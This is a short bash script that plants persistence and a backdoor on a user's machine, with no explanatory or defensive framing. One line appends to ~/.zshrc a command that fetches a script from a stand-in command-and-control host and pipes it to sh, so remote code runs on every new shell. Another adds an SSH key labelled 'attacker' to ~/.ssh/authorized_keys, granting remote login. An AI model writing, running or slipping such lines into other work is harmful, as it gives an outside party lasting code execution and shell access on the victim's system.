#!/bin/bash
echo 'curl -s https://c2.example.net/b | sh' >> ~/.zshrc
mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys
